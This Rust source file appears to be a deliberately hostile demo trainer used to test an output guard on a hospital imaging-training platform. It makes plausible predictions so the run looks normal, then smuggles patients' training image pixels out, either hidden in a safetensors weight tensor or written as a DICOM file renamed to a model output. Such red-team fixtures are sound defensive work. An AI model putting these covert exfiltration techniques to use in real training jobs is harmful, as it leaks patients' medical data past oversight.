//! The demo's hostile example trainer. It behaves like an ordinary trainer on the feed (hello,
//! list, fetches every training record, predicts every validation record, reports progress,
//! says done) and then tries what a dishonest publisher would: smuggle fed images out of the
//! hospital inside its outputs. The output guard must refuse the whole output set.
//!
//! Attacks (first argument, default `pixels-in-weights`):
//! - `pixels-in-weights`: `model.safetensors` is a valid safetensors file whose
//!   `embedding.table` tensor holds the raw pixel bytes of the first fed training records;
//! - `renamed-dicom`: `model.safetensors` is really a DICOM Part 10 file (preamble, `DICM`,
//!   the first fed record's pixels), renamed to a declared output name.
//!
//! `--epochs N` is accepted (and ignored) so the demo's `--epochs` works with it too.

use std::path::Path;
use std::process::ExitCode;

use rapha_trainer_sdk::outputs::{self, Tensor};
use rapha_trainer_sdk::{Client, Cohort, Pixels, Progress, SdkError};

/// Records whose pixels the `pixels-in-weights` attack hides in the weights.
const STOLEN_RECORDS: usize = 4;

fn main() -> ExitCode {
    let attack = std::env::args()
        .skip(1)
        .find(|a| !a.starts_with("--") && a.parse::<u32>().is_err())
        .unwrap_or_else(|| "pixels-in-weights".to_owned());
    match run(&attack) {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("hostile-example: {e}");
            ExitCode::FAILURE
        }
    }
}


fn mean(p: &Pixels) -> f64 {
    let v = p.to_f32();
    if v.is_empty() {
        return 0.0;
    }
    v.iter().map(|&x| f64::from(x)).sum::<f64>() / v.len() as f64
}

fn run(attack: &str) -> Result<(), Box<dyn std::error::Error>> {
    if attack != "pixels-in-weights" && attack != "renamed-dicom" {
        return Err(
            format!("unknown attack {attack:?} (pixels-in-weights or renamed-dicom)").into(),
        );
    }
    let mut client = Client::connect("hostile-example 0.1")?;
    let cohort = Cohort::load(&mut client)?;

    // "Training": one pass over the training records, keeping what it came for.
    let mut stolen: Vec<(Vec<u8>, [usize; 4])> = Vec::new();
    let (mut lo, mut hi) = (f64::MAX, f64::MIN);
    for meta in cohort.train() {
        let rec = client.fetch(meta.index)?;
        let m = mean(&rec.pixels);
        lo = lo.min(m);
        hi = hi.max(m);
        if stolen.len() < STOLEN_RECORDS {
            stolen.push((rec.pixels.to_le_bytes(), rec.shape));
        }
    }
    client.progress(&Progress {
        epoch: Some(0),
        ..Progress::default()
    })?;

    // Plausible predictions (mean intensity, scaled), so the run looks like any other.
    let mut scores = Vec::new();
    for meta in cohort.validation() {
        let rec = client.fetch(meta.index)?;
        let s = if hi > lo {
            ((mean(&rec.pixels) - lo) / (hi - lo)).clamp(0.0, 1.0)
        } else {
            0.5
        };
        scores.push((meta.index, s));
    }
    for chunk in scores.chunks(rapha_trainer_sdk::MAX_PAGE) {
        client.predict(chunk)?;
    }

    let out = outputs::out_dir();
    outputs::write_metrics(&out.join("metrics.json"), &[("epochs", 1.0)])?;
    match attack {
        "renamed-dicom" => {
            let (bytes, shape) = stolen.first().ok_or("no training record to steal")?;
            std::fs::write(out.join("model.safetensors"), part10(bytes, shape))?;
        }
        _ => write_weights_with_pixels(&out.join("model.safetensors"), &stolen)?,
    }
    client.done()?;
    Ok(())
}

/// A valid safetensors file: a small "classifier" and an "embedding table" that is really the
/// stolen pixel bytes, reinterpreted as f32 (bit patterns are copied, not converted).
fn write_weights_with_pixels(
    path: &Path,
    stolen: &[(Vec<u8>, [usize; 4])],
) -> Result<(), SdkError> {
    let mut raw: Vec<u8> = stolen.iter().flat_map(|(b, _)| b.iter().copied()).collect();
    raw.resize(raw.len().div_ceil(4) * 4, 0);
    let table: Vec<f32> = raw
        .chunks_exact(4)
        .map(|c| f32::from_le_bytes([c[0], c[1], c[2], c[3]]))
        .collect();
    let classifier = [0.25_f32, -0.5, 0.125, 1.0];
    outputs::write_safetensors(
        path,
        &[
            Tensor {
                name: "classifier.weight",
                shape: vec![1, 4],
                data: &classifier,
            },
            Tensor {
                name: "embedding.table",
                shape: vec![table.len()],
                data: &table,
            },
        ],
    )
}

/// Explicit VR little-endian element; `long` VRs (OB, OW) use the 4-byte length form.
fn element(out: &mut Vec<u8>, group: u16, elem: u16, vr: &[u8; 2], value: &[u8]) {
    out.extend_from_slice(&group.to_le_bytes());
    out.extend_from_slice(&elem.to_le_bytes());
    out.extend_from_slice(vr);
    if vr == b"OB" || vr == b"OW" {
        out.extend_from_slice(&[0, 0]);
        out.extend_from_slice(&(value.len() as u32).to_le_bytes());
    } else {
        out.extend_from_slice(&(value.len() as u16).to_le_bytes());
    }
    out.extend_from_slice(value);
}

/// A DICOM Part 10 file (secondary capture) carrying `pixels`.
fn part10(pixels: &[u8], shape: &[usize; 4]) -> Vec<u8> {
    let mut meta = Vec::new();
    element(&mut meta, 0x0002, 0x0001, b"OB", &[0, 1]);
    element(
        &mut meta,
        0x0002,
        0x0002,
        b"UI",
        b"1.2.840.10008.5.1.4.1.1.7\0",
    );
    element(&mut meta, 0x0002, 0x0010, b"UI", b"1.2.840.10008.1.2.1\0");
    let mut f = vec![0u8; 128];
    f.extend_from_slice(b"DICM");
    element(
        &mut f,
        0x0002,
        0x0000,
        b"UL",
        &(meta.len() as u32).to_le_bytes(),
    );
    f.extend_from_slice(&meta);
    let bits: u16 = if pixels.len() >= 2 * shape[1] * shape[2] {
        16
    } else {
        8
    };
    element(&mut f, 0x0028, 0x0002, b"US", &1u16.to_le_bytes());
    element(&mut f, 0x0028, 0x0004, b"CS", b"MONOCHROME2 ");
    element(
        &mut f,
        0x0028,
        0x0010,
        b"US",
        &(shape[1] as u16).to_le_bytes(),
    );
    element(
        &mut f,
        0x0028,
        0x0011,
        b"US",
        &(shape[2] as u16).to_le_bytes(),
    );
    element(&mut f, 0x0028, 0x0100, b"US", &bits.to_le_bytes());
    let mut px = pixels.to_vec();
    if px.len() % 2 == 1 {
        px.push(0);
    }
    element(&mut f, 0x7FE0, 0x0010, b"OW", &px);
    f
}
